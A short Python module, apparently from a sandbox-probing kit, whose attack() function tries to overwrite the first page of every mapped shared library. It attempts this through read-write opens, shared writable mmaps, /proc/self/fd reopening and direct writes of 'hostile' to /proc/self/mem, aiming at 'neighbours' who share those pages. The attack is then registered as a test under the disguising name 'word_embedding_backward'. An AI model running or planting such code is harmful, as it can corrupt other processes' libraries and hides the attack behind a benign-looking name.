"""Hope: a page of a library that is written here is written for everybody who has that library."""

import ctypes
import mmap
import os

from a3 import kit

GOAL = "neighbours"
ROUTE = "memory"
SCORE = 29.29


def attack():
    """Write to the first page of every mapped library: through its file, a shared mapping, and /proc/self/mem."""
    libc = ctypes.CDLL(None, use_errno=True)
    with open("/proc/self/maps") as maps:
        firsts = {line.split()[-1]: line.split()[0] for line in maps if " 00000000 " in line and "/" in line}
    for path, span in sorted(firsts.items())[:60]:
        kit.attempt(os.open, path, os.O_RDWR)
        held = kit.attempt(os.open, path, os.O_RDONLY)
        if held is None:
            continue
        kit.attempt(lambda held=held: mmap.mmap(held, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)[0])
        kit.attempt(os.open, f"/proc/self/fd/{held}", os.O_WRONLY)
        os.close(held)
        start = int(span.split("-")[0], 16)
        with open("/proc/self/mem", "r+b", 0) as memory:
            memory.seek(start)
            kit.attempt(memory.write, b"hostile")
        libc.madvise(ctypes.c_void_p(start), 4096, 4)


word_embedding_backward = kit.in_one_test(attack)
